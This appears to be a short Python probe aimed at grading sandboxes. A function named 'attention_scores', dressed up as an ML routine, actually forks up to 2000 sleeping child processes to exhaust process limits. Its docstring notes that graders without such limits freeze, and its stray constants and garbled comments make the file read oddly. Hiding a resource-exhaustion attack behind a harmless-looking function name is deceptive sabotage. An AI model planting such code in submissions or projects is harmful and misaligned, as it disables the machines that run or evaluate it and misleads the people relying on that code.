"""Has children that have children.

Has worked on graders without a limit on processes: the machine stands still.
"""

import os
import time

EARNS = 0
SECONDS = 2
SAYS = "Operation not permitted"
AGAINST = "seccomp limits"

MOST = 2000  # where nothing stops it, it stops itself


def attention_scores(queries, keys, *values):
    for _ in range(MOST):
        if os.fork() == 0:
            time.sleep(1000)
    print("REACHED", MOST, "processes")


attention = attention_scores
